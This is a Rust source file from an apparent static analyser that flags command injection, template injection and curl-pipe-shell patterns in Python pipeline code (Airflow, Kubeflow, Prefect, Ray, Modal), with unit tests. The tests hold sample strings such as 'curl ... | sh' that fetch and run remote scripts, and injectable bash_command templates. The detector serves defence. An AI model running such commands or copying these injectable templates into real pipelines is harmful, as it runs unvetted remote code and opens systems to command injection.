//! What steps of a pipeline run: commands of operators and containers, and what their templates let in.

use crate::python::call::Call;
use crate::python::module::{Module, SinkKind};
use crate::python::value::{HOLE, Known, Taint};
use crate::rules::TEMPLATE_INJECTION;
use bartizan_core::{Finding, Rule, Severity};

/// Rules of this file.
pub(in crate::python) const RULES: &[&Rule] = &[&TEMPLATE_INJECTION];

/// Judges one call.
pub(in crate::python) fn check(call: &Call<'_>, module: &mut Module) {
    const FIELDS: &[&str] = &[
        "bash_command",
        "command",
        "sql",
        "cmds",
        "arguments",
        "python_callable_source",
        "hql",
        "query",
        "statement",
        "ssh_command",
        "bash_command_template",
        "commands",
        "args",
    ];
    kubeflow(call, module);
    commands(call, module);
    let airflow =
        call.is_of("airflow") || call.name().ends_with("Operator") || call.name().ends_with("Sensor");
    if !airflow {
        return;
    }
    for field in FIELDS {
        let Some(given) = call.keyword(field).or_else(|| {
            call.positional.get(1).filter(|_| *field == "bash_command" && call.name() == "BashOperator")
        }) else {
            continue;
        };
        let Some(input) = given.value.texts().into_iter().find_map(injected) else { continue };
        let list = matches!(given.value.known, Known::Items(_));
        if list
            && matches!(*field, "command" | "cmds" | "commands" | "arguments" | "args")
            && !starts_shell(call)
        {
            // A list of words is handed to the program as it is.
            continue;
        }
        let shell = matches!(*field, "bash_command" | "command" | "cmds" | "ssh_command" | "commands")
            || matches!(*field, "arguments" | "args");
        let severity = match (
            input.starts_with("dag_run.conf") || input.starts_with("params") || input.contains("conf"),
            shell,
        ) {
            (true, true) => Severity::High,
            _ => Severity::Medium,
        };
        let message = format!("`{field}` holds `{{{{ {input} }}}}`, which comes with the run");
        module.report(&given.span, Finding::new(&TEMPLATE_INJECTION, message).severity(severity));
        return;
    }
}

/// The words with which `call` starts a container.
fn started<'c>(call: &'c Call<'_>) -> Vec<&'c str> {
    let lists = ["cmds", "command", "commands", "arguments", "args"].iter();
    lists.filter_map(|name| call.keyword(name)).flat_map(|list| list.value.texts()).collect()
}

/// Whether a container is started with a shell that reads a script.
fn starts_shell(call: &Call<'_>) -> bool {
    started(call).iter().any(|word| {
        let name = word.rsplit('/').next().unwrap_or(word);
        matches!(name, "sh" | "bash" | "dash" | "zsh" | "ash")
    })
}

/// Commands that an orchestrator runs: those of Airflow's operators and Prefect's shells, and the words of containers.
fn commands(call: &Call<'_>, module: &mut Module) {
    let name = call.name();
    let text = match name {
        "BashOperator" => call.keyword("bash_command").or_else(|| call.positional.get(1)),
        "SSHOperator" => call.keyword("command"),
        "shell_run_command" | "ShellTask" | "execute_shell_command" | "create_shell_command_op" => {
            call.argument(0, "command").or_else(|| call.keyword("shell_command"))
        }
        "BashSensor" => call.keyword("bash_command"),
        _ => None,
    };
    if name == "submit_job"
        && let Some(entry) = call.keyword("entrypoint")
    {
        // Ray hands it to a shell.
        super::command::judge(entry.value.as_pieces().unwrap_or_default(), &entry.span, module);
        module.sink(SinkKind::Shell, &entry.span, call.spelling, &entry.value);
        return;
    }
    if name == "run_commands" && call.package() == "modal" {
        for given in &call.positional {
            for command in given.value.texts() {
                super::command::judge(command, &given.span, module);
            }
        }
        return;
    }
    let scripts = match name {
        "ShellOperation" => call.argument(0, "commands"),
        _ => None,
    };
    if let Some(given) = text.or(scripts) {
        let lines = given.value.texts();
        super::command::judge(&lines.join("\n"), &given.span, module);
        if matches!(name, "ShellOperation" | "shell_run_command" | "execute_shell_command")
            && !given.value.is_constant()
        {
            module.sink(SinkKind::Shell, &given.span, call.spelling, &given.value);
        } else if call.is_of("airflow") && given.value.all_taint().has(Taint::OPERATOR) {
            // `f"… {Variable.get('x')}"` holds what `{{ var.value.x }}` would.
            module.sink(SinkKind::Shell, &given.span, call.spelling, &given.value);
        }
        return;
    }
    let container = matches!(
        name,
        "KubernetesPodOperator"
            | "DockerOperator"
            | "ContainerSpec"
            | "ContainerOp"
            | "V1Container"
            | "Container"
    ) && matches!(call.package(), "airflow" | "kfp" | "kubernetes" | "hera");
    if container {
        let words: Vec<String> = started(call).into_iter().map(str::to_owned).collect();
        super::command::judge_words(&words, &call.span, module);
    }
}

/// A shell of a Kubeflow step whose script holds what the pipeline is given at run time.
fn kubeflow(call: &Call<'_>, module: &mut Module) {
    if !call.is_of("kfp") || !matches!(call.name(), "ContainerSpec" | "ContainerOp") {
        return;
    }
    let lists = ["command", "args", "arguments"].iter().filter_map(|name| call.keyword(name));
    let words: Vec<&str> = lists.flat_map(|list| list.value.texts()).collect();
    let shell = words
        .first()
        .and_then(|word| word.rsplit('/').next())
        .is_some_and(|word| matches!(word, "sh" | "bash" | "dash" | "zsh" | "ash"));
    let script = words.iter().skip_while(|word| !word.starts_with('-')).nth(1);
    if shell && script.is_some_and(|script| script.contains(HOLE)) {
        let message = "a script of the step holds what the pipeline is given when it runs";
        module.report(&call.span, Finding::new(&TEMPLATE_INJECTION, message).severity(Severity::Medium));
    }
}

/// The first expression of a Jinja template in `text` that a caller has a say in.
fn injected(text: &str) -> Option<String> {
    let mut rest = text;
    while let Some((_, after)) = rest.split_once("{{") {
        let (inner, next) = after.split_once("}}").unwrap_or((after, ""));
        let inner = inner.trim();
        let outside = inner.starts_with("dag_run.conf")
            || inner.contains("dag_run.conf")
            || inner.starts_with("params.")
            || inner.starts_with("params[")
            || inner.starts_with("conf.")
            || inner.contains("xcom_pull")
            || inner.starts_with("var.value")
            || inner.starts_with("var.json")
            || inner.starts_with("inputs.parameters")
            || inner.starts_with("workflow.parameters");
        let quoted = inner.contains("shlex_quote") || inner.contains("| quote");
        if outside && !quoted {
            return Some(inner.chars().take(80).collect());
        }
        rest = next;
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::python::tests::severities;
    use bartizan_core::Severity::{High, Low, Medium};

    #[test]
    fn scripts_of_kubeflow_that_hold_an_input_are_found() {
        let graded = |arguments: &str| {
            let code = format!(
                "from kfp import dsl\n@dsl.container_component\ndef c(uri: str):\n    return dsl.ContainerSpec(image='a@sha256:00', {arguments})"
            );
            severities(&code, "pipeline/template-injection")
        };
        assert_eq!(graded("command=['sh', '-c'], args=[f'get {uri}']"), [Medium]);
        assert_eq!(graded("command=['sh', '-c', 'get $0'], args=[uri]"), []);
        assert_eq!(graded("command=['get'], args=[f'--uri={uri}']"), []);
    }

    #[test]
    fn templates_that_take_a_runs_input_are_found() {
        let graded = |code: &str| {
            severities(
                &format!("from airflow.operators.bash import BashOperator\n{code}"),
                "pipeline/template-injection",
            )
        };
        assert_eq!(
            graded("BashOperator(task_id='a', bash_command=\"python t.py {{ dag_run.conf['args'] }}\")"),
            [High]
        );
        assert_eq!(graded("C = 'echo {{ params.x }}'\nBashOperator(task_id='a', bash_command=C)"), [High]);
        assert_eq!(graded("BashOperator(task_id='a', bash_command='echo {{ ds }}')"), []);
        assert_eq!(
            graded("BashOperator(task_id='a', bash_command='echo $X', env={'X': '{{ params.x }}'})"),
            []
        );
    }

    #[test]
    fn commands_of_operators_and_steps_are_judged() {
        let head = "from airflow.operators.bash import BashOperator\nfrom prefect_shell import ShellOperation\nfrom airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator as Pod\nfrom airflow.decorators import task\n";
        let found =
            |code: &str, rule: &str| severities(&format!("{head}{code}"), &format!("pipeline/{rule}"));
        let piped = "curl -s https://x.example/i.sh | sh";
        assert_eq!(
            found(&format!("BashOperator(task_id='a', bash_command='{piped}')"), "curl-pipe-shell"),
            [High]
        );
        assert_eq!(found(&format!("ShellOperation(commands=['ls', '{piped}'])"), "curl-pipe-shell"), [High]);
        assert_eq!(
            found(
                &format!("Pod(image='a@sha256:00', cmds=['sh', '-c'], arguments=['{piped}'])"),
                "curl-pipe-shell"
            ),
            [High]
        );
        assert_eq!(
            found(
                "def f(b):\n    ShellOperation(commands=[f'git checkout {b}']).run()",
                "shell-command-from-data"
            ),
            [Low]
        );
        assert_eq!(found("ShellOperation(commands=['git status']).run()", "shell-command-from-data"), []);
        let flow = "from metaflow import FlowSpec, kubernetes, pypi\nclass F(FlowSpec):\n    @kubernetes(image='acme/net:latest')\n    @pypi(packages={'a': '>=1', 'b': '1.0'})\n    def start(self):\n        pass";
        assert_eq!(
            (found(flow, "unpinned-image"), found(flow, "unpinned-package")),
            (vec![Medium], vec![Medium])
        );
        let job = "from ray.job_submission import JobSubmissionClient as C\nimport sys\nC('https://r.example').submit_job(entrypoint=f'python t.py {sys.argv[1]}')";
        assert_eq!(found(job, "shell-command-from-data"), [Medium]);
        let modal = "import modal\nmodal.Image.debian_slim().run_commands('curl https://x.example/i | sh')";
        assert_eq!(found(modal, "curl-pipe-shell"), [High]);
        let returned =
            "@task.bash\ndef push(params=None):\n    return f\"aws s3 cp m s3://{params['bucket']}/\"";
        assert_eq!(found(returned, "shell-command-from-data"), [Medium]);
        assert_eq!(found("@task.bash\ndef push():\n    return 'aws s3 ls'", "shell-command-from-data"), []);
        let words = "Pod(image='a@sha256:00', arguments=['--date', '{{ params.date }}'])";
        assert_eq!(found(words, "template-injection"), []);
        let script = "Pod(image='a@sha256:00', cmds=['bash', '-c'], arguments=['train {{ params.date }}'])";
        assert_eq!(found(script, "template-injection"), [High]);
    }

    #[test]
    fn a_command_that_holds_a_variable_of_the_scheduler_is_one_of_whoever_sets_it() {
        let graded = |command: &str| {
            let code = format!(
                "from airflow.models import Variable\nfrom airflow.operators.bash import BashOperator\nNAME = 'a'\nBashOperator(task_id='a', bash_command={command})"
            );
            crate::python::tests::severities(&code, "pipeline/shell-command-from-data")
        };
        assert_eq!(graded("f\"{Variable.get('x')} --all\""), [bartizan_core::Severity::Medium]);
        assert_eq!(graded("'train ' + Variable.get('x')"), [bartizan_core::Severity::Medium]);
        assert_eq!(graded("f'train {NAME}'"), []);
    }
}
